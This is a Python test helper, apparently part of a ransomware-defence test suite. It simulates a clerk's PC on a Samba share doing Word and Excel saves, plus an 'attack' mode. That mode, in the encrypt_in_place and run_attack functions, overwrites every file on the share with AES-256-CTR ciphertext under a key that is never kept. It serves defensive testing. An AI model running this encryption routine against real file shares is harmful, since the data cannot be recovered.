"""A clerk's Windows PC on the Samba share: Word and Excel saving there, or the PC infected.

    .venv/bin/python tests/integration/smbclerk.py --port P --user U --password-file F \\
        --share bau-cu ACTION ...

Run it as its own process: on the server, its reads and writes are made by the smbd child
that serves its connection, and the defender may stop or kill that child. The password is
read from a file that only its owner may read (0600), never from argv. Paths are relative to
the share root, with ``/`` separators. Only smbprotocol's ``smbclient``, the standard library,
``cryptography`` and ``secops.demo.documents``: no import from the test package.

Actions:

``word-save REL...``
    Word opening and saving each .docx: the document read, the owner file ``~$<name>``
    (162 bytes, hidden) made, the new document (the old paragraphs plus ``--line``) written
    to ``~WRD0000.tmp`` (numbered upward per file), the original renamed to ``~WRL0001.tmp``,
    ``~WRD….tmp`` renamed to the original name, ``~WRL….tmp`` deleted, the owner file
    deleted.
``excel-save REL...``
    Excel saving each .xlsx: the workbook read, the owner file ``~$<name>`` made, the new
    workbook (the old rows plus the row ``[--line]``) written to a random 8-hex-digit name
    without extension (``3A1F9C2B``), the original renamed to another such name with
    ``.tmp``, the new one renamed to the original name, the ``.tmp`` deleted, the owner file
    deleted.
``attack --progress FILE [--seed N] [--dir REL] [--delay S]``
    The infected PC: every regular file under ``--dir`` (default: the whole share), in a
    seeded random order, opened read/write, read whole and overwritten in place from offset 0
    with AES-256-CTR ciphertext under a random key that is never saved. After each file
    ``done <rel>`` or ``failed <rel> <ERROR>`` is appended to the (local) progress file,
    flushed and fsynced; ``finished`` at the end. A failure does not stop it; a lost
    connection is re-made on the next file, as Windows does.

Exit 0 when every action succeeded (attack: when it ran to the end), 1 otherwise, 2 on usage
errors (a password file readable by others included).
"""

from __future__ import annotations

import argparse
import errno
import os
import random
import secrets
import stat
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import smbclient
import smbclient.path
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from secops.demo.documents import docx_bytes, docx_paragraphs, xlsx_bytes, xlsx_rows

DEFAULT_LINE = "Đã sửa trên máy cán bộ qua mạng (SMB)"
OWNER_FILE_SIZE = 162
FILE_ATTRIBUTE_HIDDEN = 0x02
FILE_ATTRIBUTE_ARCHIVE = 0x20


class ClerkError(Exception):
    """An action could not be done; the message says which and why."""


def owner_file(user: str) -> bytes:
    """Word's/Excel's owner file: the user's name as a length byte and 53 ANSI bytes, then
    as a 16-bit length and UTF-16LE, zero padded to 162 bytes."""
    name = user[:53]
    ansi = name.encode("ascii", "replace")
    data = bytes([len(ansi)]) + ansi.ljust(53, b"\0")
    data += len(name).to_bytes(2, "little") + name.encode("utf-16-le")
    return data.ljust(OWNER_FILE_SIZE, b"\0")[:OWNER_FILE_SIZE]


def split(rel: str) -> tuple[str, str]:
    """(folder, name) of a share-relative path; folder '' is the share root."""
    clean = rel.replace("\\", "/").strip("/")
    folder, _, name = clean.rpartition("/")
    if not name:
        raise ClerkError(f"not a file path: {rel!r}")
    return folder, name


def join(folder: str, name: str) -> str:
    return f"{folder}/{name}" if folder else name


def error_token(e: BaseException) -> str:
    """One word for a failure: the errno name, else the NTSTATUS, else the exception type."""
    code = getattr(e, "errno", None)
    if isinstance(code, int) and code in errno.errorcode:
        return errno.errorcode[code]
    status = getattr(e, "ntstatus", None)
    if isinstance(status, int):
        return f"NTSTATUS_0x{status:08x}"
    return type(e).__name__


class Share:
    """One share as this PC's user; every call carries the credentials, so a dropped
    connection is simply made again on the next call."""

    def __init__(self, host: str, port: int, share: str, *, user: str, password: str,
                 timeout: float) -> None:
        self.host = host
        self.share = share
        self.user = user
        self.kwargs: dict[str, Any] = {
            "port": port, "username": user, "password": password, "auth_protocol": "ntlm",
            "connection_timeout": timeout,
        }

    def unc(self, rel: str = "") -> str:
        inner = rel.replace("/", "\\").strip("\\")
        base = f"\\\\{self.host}\\{self.share}"
        return f"{base}\\{inner}" if inner else base

    def connect(self) -> None:
        """Log in and connect to the share (fails early with a clear error)."""
        smbclient.register_session(self.host, **self.kwargs)
        smbclient.stat(self.unc(), **self.kwargs)

    def exists(self, rel: str) -> bool:
        return bool(smbclient.path.lexists(self.unc(rel), **self.kwargs))

    def read(self, rel: str) -> bytes:
        """The whole file, opened as Word does: others may read it meanwhile."""
        with smbclient.open_file(self.unc(rel), mode="rb", buffering=0, share_access="r",
                                 **self.kwargs) as f:
            data: bytes = f.readall()
        return data

    def create(self, rel: str, data: bytes, attributes: int | None = None) -> None:
        """A new file (it must not exist), written whole and flushed (SMB2 FLUSH)."""
        with smbclient.open_file(self.unc(rel), mode="xb", buffering=0,
                                 file_attributes=attributes, **self.kwargs) as f:
            write_all(f, data)
            f.flush()

    def rename(self, src: str, dst: str) -> None:
        smbclient.rename(self.unc(src), self.unc(dst), **self.kwargs)

    def remove(self, rel: str) -> None:
        smbclient.remove(self.unc(rel), **self.kwargs)

    def regular_files(self, top: str = "") -> list[str]:
        """Every regular file under ``top`` (recursively), share-relative, in name order."""
        found: list[str] = []
        folders = [top.replace("\\", "/").strip("/")]
        while folders:
            folder = folders.pop()
            entries = sorted(smbclient.scandir(self.unc(folder), **self.kwargs),
                             key=lambda e: str(e.name))
            subfolders = []
            for entry in entries:
                rel = join(folder, str(entry.name))
                if entry.is_symlink():
                    continue
                if entry.is_dir():
                    subfolders.append(rel)
                elif entry.is_file():
                    found.append(rel)
            folders.extend(reversed(subfolders))
        return sorted(found)


def write_all(f: Any, data: bytes) -> None:
    """Unbuffered SMB writes may be short (max write size): write until all is written."""
    view = memoryview(data)
    while view:
        written = f.write(view)
        if not written:
            raise ClerkError("the server accepted no bytes")
        view = view[written:]


def free_name(share: Share, folder: str, candidates: Callable[[], str]) -> str:
    """The first name from ``candidates`` that does not exist in ``folder``."""
    for _ in range(10000):
        rel = join(folder, candidates())
        if not share.exists(rel):
            return rel
    raise ClerkError(f"no free temporary name in {folder or 'the share root'}")


class Numbered:
    """Word's ``~WRD0000.tmp``, ``~WRD0001.tmp``, …: counting up from ``start``."""

    def __init__(self, pattern: str, start: int) -> None:
        self.pattern = pattern
        self.next = start

    def __call__(self) -> str:
        name = self.pattern.format(self.next)
        self.next += 1
        return name


def hex_name(suffix: str = "") -> Callable[[], str]:
    return lambda: f"{secrets.token_hex(4).upper()}{suffix}"


def word_save(share: Share, rel: str, line: str, wrd: Numbered, wrl: Numbered) -> None:
    folder, name = split(rel)
    owner = join(folder, f"~${name}")
    opened = share.read(rel)  # the document opened, then its owner file made
    share.create(owner, owner_file(share.user), FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_ARCHIVE)
    new = docx_bytes([*docx_paragraphs(opened), line])
    temp = free_name(share, folder, wrd)
    share.create(temp, new)
    old = free_name(share, folder, wrl)
    share.rename(rel, old)
    share.rename(temp, rel)
    share.remove(old)
    share.remove(owner)


def excel_save(share: Share, rel: str, line: str) -> None:
    folder, name = split(rel)
    owner = join(folder, f"~${name}")
    opened = share.read(rel)
    share.create(owner, owner_file(share.user), FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_ARCHIVE)
    new = xlsx_bytes([*xlsx_rows(opened), [line]])
    temp = free_name(share, folder, hex_name())
    share.create(temp, new)
    old = free_name(share, folder, hex_name(".tmp"))
    share.rename(rel, old)
    share.rename(temp, rel)
    share.remove(old)
    share.remove(owner)


def run_saves(share: Share, action: str, files: Sequence[str], line: str) -> int:
    wrd, wrl = Numbered("~WRD{:04d}.tmp", 0), Numbered("~WRL{:04d}.tmp", 1)
    for rel in files:
        try:
            if action == "word-save":
                word_save(share, rel, line, wrd, wrl)
            else:
                excel_save(share, rel, line)
        except Exception as e:  # report any failure (SMB, document) and stop, as Word would
            print(f"cannot save {rel}: {type(e).__name__}: {e}", file=sys.stderr)
            return 1
        print(f"saved {rel}", flush=True)
    return 0


class Progress:
    """The line protocol the tests read: appended, flushed and fsynced line by line."""

    def __init__(self, path: Path) -> None:
        self.file = path.open("a", encoding="utf-8")

    def line(self, text: str) -> None:
        self.file.write(text + "\n")
        self.file.flush()
        os.fsync(self.file.fileno())

    def close(self) -> None:
        self.file.close()


def encrypt_in_place(share: Share, rel: str, key: bytes) -> None:
    """Open read/write (exclusively), read it all, overwrite it from offset 0, flush, close."""
    with smbclient.open_file(share.unc(rel), mode="r+b", buffering=0, **share.kwargs) as f:
        plain: bytes = f.readall()
        enc = Cipher(algorithms.AES(key), modes.CTR(os.urandom(16))).encryptor()
        f.seek(0)
        write_all(f, enc.update(plain) + enc.finalize())
        f.flush()


def run_attack(share: Share, progress_path: Path, *, seed: int, top: str,
               delay: float) -> int:
    rng = random.Random(seed)  # noqa: S311 - the walk order, not the key
    key = os.urandom(32)
    try:
        targets = share.regular_files(top)
    except Exception as e:  # no listing, no attack: it did not run to the end
        print(f"cannot list {top or 'the share'}: {type(e).__name__}: {e}", file=sys.stderr)
        return 1
    rng.shuffle(targets)
    report = Progress(progress_path)
    try:
        for i, rel in enumerate(targets):
            if i and delay > 0:
                time.sleep(delay)
            try:
                encrypt_in_place(share, rel, key)
            except Exception as e:  # refused, gone, connection cut: note it and go on
                report.line(f"failed {rel} {error_token(e)}")
            else:
                report.line(f"done {rel}")
        report.line("finished")
    finally:
        report.close()
    return 0


def read_password(path: Path) -> str:
    mode = path.stat().st_mode
    if mode & (stat.S_IRWXG | stat.S_IRWXO):
        raise ClerkError(f"{path}: mode {stat.S_IMODE(mode):04o}, want 0600")
    return path.read_text(encoding="utf-8").rstrip("\r\n")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=445)
    parser.add_argument("--user", required=True)
    parser.add_argument("--password-file", required=True, type=Path)
    parser.add_argument("--share", required=True)
    parser.add_argument("--timeout", type=float, default=60.0, help="connect timeout, seconds")
    actions = parser.add_subparsers(dest="action", required=True)
    for name in ("word-save", "excel-save"):
        save = actions.add_parser(name)
        save.add_argument("--line", default=DEFAULT_LINE, help="the paragraph or row added")
        save.add_argument("files", nargs="+")
    attack = actions.add_parser("attack")
    attack.add_argument("--progress", required=True, type=Path)
    attack.add_argument("--seed", type=int, default=11, help="seed of the walk order")
    attack.add_argument("--dir", default="", help="only the files under this folder")
    attack.add_argument("--delay", type=float, default=0.0, help="seconds between files")
    args = parser.parse_args(argv)
    try:
        password = read_password(args.password_file)
    except (OSError, ClerkError) as e:
        print(f"password file: {e}", file=sys.stderr)
        return 2
    share = Share(args.host, args.port, args.share, user=args.user, password=password,
                  timeout=args.timeout)
    try:
        try:
            share.connect()
        except Exception as e:  # wrong password, no server, no share
            print(f"cannot connect to {share.unc()}: {type(e).__name__}: {e}", file=sys.stderr)
            return 1
        if args.action == "attack":
            return run_attack(share, args.progress, seed=args.seed, top=args.dir,
                              delay=args.delay)
        return run_saves(share, args.action, args.files, args.line)
    finally:
        smbclient.reset_connection_cache(fail_on_error=False)


if __name__ == "__main__":
    sys.exit(main())
